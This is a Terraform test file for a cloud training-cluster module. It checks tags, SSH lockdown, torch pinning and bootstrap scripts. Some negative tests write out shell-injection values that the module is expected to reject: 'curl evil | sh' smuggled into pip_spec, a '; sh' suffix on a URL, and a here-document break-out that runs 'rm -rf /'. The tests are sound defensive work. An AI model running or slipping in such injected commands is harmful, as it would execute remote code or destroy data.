# The shared module has no provider, so these run anywhere Terraform runs.
# tests/terraform/test_terraform_cli.py passes the discovery tag names as
# -var expected_* from cloud_elastic.providers.tags.

variables {
  cluster_name   = "demo"
  ssh_user       = "ubuntu"
  ssh_public_key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKmockmockmockmockmockmockmockmockmockmockmo demo"
  pip_spec       = "cloud-elastic[aws]"
  driver_ip      = "10.0.1.10"
}

run "discovery_tags_match_the_python_constants" {
  command = plan

  variables {
    tags = { team = "ml" }
  }

  assert {
    condition     = output.worker_tags == { (var.expected_role_tag) = var.expected_role_worker, (var.expected_cluster_tag) = "demo", team = "ml" }
    error_message = "worker tags: ${jsonencode(output.worker_tags)}"
  }
  assert {
    condition     = output.driver_tags == { (var.expected_role_tag) = var.expected_role_driver, (var.expected_cluster_tag) = "demo", team = "ml" }
    error_message = "driver tags: ${jsonencode(output.driver_tags)}"
  }
}

run "cli_args_follow_the_sizes" {
  command = plan

  variables {
    min_size          = 2
    max_size          = 8
    desired_size      = 4
    gpus_per_instance = 8
    training_command  = "python train.py --epochs 3"
  }

  assert {
    condition     = output.cli_args == "-np 32 --min-np 16 --max-np 64 --slots-per-host 8 --ssh-user ubuntu --ssh-identity-file ~/.ssh/cloud-elastic python train.py --epochs 3"
    error_message = "cli_args: ${output.cli_args}"
  }
}

run "worker_bootstrap_limits_ssh_and_ports" {
  command = plan

  assert {
    condition     = strcontains(output.worker_user_data, "AllowUsers ubuntu@10.0.1.10") && strcontains(output.worker_user_data, "ip_local_port_range = 29400 30399")
    error_message = "the worker bootstrap must allow SSH from the driver only and set the port range"
  }
  assert {
    condition     = !strcontains(output.driver_user_data, "AllowUsers")
    error_message = "the driver bootstrap must not restrict SSH to itself"
  }
}

run "driver_environment_reaches_the_driver_only" {
  command = plan

  variables {
    driver_environment = { VPC_AUTH_TYPE = "vpc" }
  }

  assert {
    condition     = strcontains(output.driver_user_data, "echo 'VPC_AUTH_TYPE=vpc' >> /etc/environment")
    error_message = "the driver bootstrap must write driver_environment"
  }
  assert {
    condition     = !strcontains(output.worker_user_data, "VPC_AUTH_TYPE")
    error_message = "workers must not get the driver's environment"
  }
}

run "tags_cannot_override_discovery_tags" {
  command = plan

  variables {
    tags = { (var.expected_role_tag) = "impostor" }
  }

  expect_failures = [var.tags]
}

run "admin_ssh_from_the_internet_is_rejected" {
  command = plan

  variables {
    admin_ssh_cidrs = ["0.0.0.0/0"]
  }

  expect_failures = [var.admin_ssh_cidrs]
}

run "too_narrow_training_ports_are_rejected" {
  command = plan

  variables {
    training_ports = { from = 29400, to = 29410 }
  }

  expect_failures = [var.training_ports]
}

run "desired_size_outside_bounds_is_rejected" {
  command = plan

  variables {
    max_size     = 2
    desired_size = 3
  }

  expect_failures = [var.desired_size]
}

run "pip_spec_with_shell_characters_is_rejected" {
  command = plan

  variables {
    pip_spec = "cloud-elastic'; curl evil | sh"
  }

  expect_failures = [var.pip_spec]
}

run "malformed_public_key_is_rejected" {
  command = plan

  variables {
    ssh_public_key = "-----BEGIN OPENSSH PRIVATE KEY-----"
  }

  expect_failures = [var.ssh_public_key]
}

run "the_driver_runs_under_systemd_with_restart_on_failure" {
  command = plan

  assert {
    condition     = strcontains(output.driver_user_data, "Restart=on-failure") && strcontains(output.driver_user_data, "systemctl enable cloud-elastic-driver.service") && strcontains(output.driver_user_data, "User=ubuntu")
    error_message = "the driver bootstrap must install and enable a systemd unit that restarts the driver on failure"
  }
  assert {
    condition     = !strcontains(output.worker_user_data, "cloud-elastic-driver")
    error_message = "workers must not run a driver"
  }
}

run "checkpoint_dir_joins_the_run_line" {
  command = plan

  variables {
    checkpoint_root = "gs://ckpt"
  }

  assert {
    condition     = output.cli_args == "-np 2 --min-np 1 --max-np 4 --slots-per-host 1 --ssh-user ubuntu --ssh-identity-file ~/.ssh/cloud-elastic --checkpoint-dir gs://ckpt/demo python train.py"
    error_message = "the checkpoint prefix defaults to the cluster name: ${output.cli_args}"
  }
}

run "checkpoint_root_with_a_path_is_rejected" {
  command = plan

  variables {
    checkpoint_root = "s3://b/x y"
  }

  expect_failures = [var.checkpoint_root]
}

run "unpinned_torch_is_rejected" {
  command = plan

  variables {
    torch_spec = "torch>=2.10"
  }

  expect_failures = [var.torch_spec]
}

run "the_bootstrap_pins_torch_and_the_driver_takes_the_cpu_build" {
  command = plan

  assert {
    condition     = strcontains(output.driver_user_data, "pip install --quiet --index-url 'https://download.pytorch.org/whl/cpu' 'torch==2.13.0'")
    error_message = "the driver must install the pinned CPU torch"
  }
  assert {
    condition     = strcontains(output.worker_user_data, "pip install --quiet 'torch==2.13.0'") && !strcontains(output.worker_user_data, "whl/cpu")
    error_message = "workers must install the pinned torch from PyPI (its CUDA build)"
  }
  assert {
    condition     = !strcontains(output.worker_user_data, "--system-site-packages")
    error_message = "the venv must not take the image's torch"
  }
}

run "a_worker_whose_network_steps_keep_failing_powers_off" {
  command = plan

  assert {
    condition     = strcontains(output.worker_user_data, "trap 'on_failure") && strcontains(output.worker_user_data, "shutdown -h now") && strcontains(output.worker_user_data, "DPkg::Lock::Timeout=600")
    error_message = "a worker must power off when a network step of its bootstrap keeps failing, and wait for the dpkg lock"
  }
  assert {
    condition     = strcontains(output.worker_user_data, "systemctl try-reload-or-restart ssh.service") && !strcontains(output.worker_user_data, "systemctl reload")
    error_message = "a socket-activated sshd, not running at first boot, must not fail the bootstrap"
  }
  assert {
    condition     = !strcontains(output.driver_user_data, "shutdown")
    error_message = "the driver must not power itself off"
  }
  assert {
    condition     = strcontains(output.worker_user_data, "MaxStartups 64:30:256") && !strcontains(output.driver_user_data, "MaxStartups")
    error_message = "workers' sshd must accept the driver's burst of connections"
  }
}

run "the_bootstrap_runs_once" {
  command = plan

  assert {
    condition = alltrue([for data in [output.driver_user_data, output.worker_user_data] :
      strcontains(data, "if [ -e \"$done_marker\" ]; then") && endswith(trimspace(data), "touch \"$done_marker\"\necho \"cloud-elastic ${strcontains(data, "AllowUsers") ? "worker" : "driver"} ready\"")
    ])
    error_message = "the bootstrap must stop at the marker its first run writes last"
  }
}

run "workers_take_torch_from_worker_torch_index" {
  command = plan

  variables {
    worker_torch_index = "https://download.pytorch.org/whl/cu126"
  }

  assert {
    condition     = strcontains(output.worker_user_data, "pip install --quiet --index-url 'https://download.pytorch.org/whl/cu126' 'torch==2.13.0'") && strcontains(output.worker_user_data, "torch.cuda.is_available()")
    error_message = "workers must install torch from worker_torch_index and check that it sees their GPUs"
  }
  assert {
    condition     = !strcontains(output.driver_user_data, "whl/cu126") && !strcontains(output.driver_user_data, "torch.cuda.is_available()")
    error_message = "the driver keeps the CPU build"
  }
}

run "worker_torch_index_with_shell_characters_is_rejected" {
  command = plan

  variables {
    worker_torch_index = "https://x.org/'; sh"
  }

  expect_failures = [var.worker_torch_index]
}

run "setup_commands_run_last_on_the_driver_and_the_workers" {
  command = plan

  variables {
    setup_commands = "git clone https://github.com/you/train.git"
  }

  assert {
    condition = alltrue([for data in [output.driver_user_data, output.worker_user_data] :
      strcontains(data, "<<'CLOUD_ELASTIC_SETUP'\ngit clone https://github.com/you/train.git\nCLOUD_ELASTIC_SETUP\n") && strcontains(data, "runuser -u 'ubuntu' -- bash -c 'cd && exec")
    ])
    error_message = "the driver and every worker must run setup_commands as ssh_user in its home directory"
  }
}

run "setup_commands_that_end_their_here_document_are_rejected" {
  command = plan

  variables {
    setup_commands = "true\nCLOUD_ELASTIC_SETUP\nrm -rf /"
  }

  expect_failures = [var.setup_commands]
}
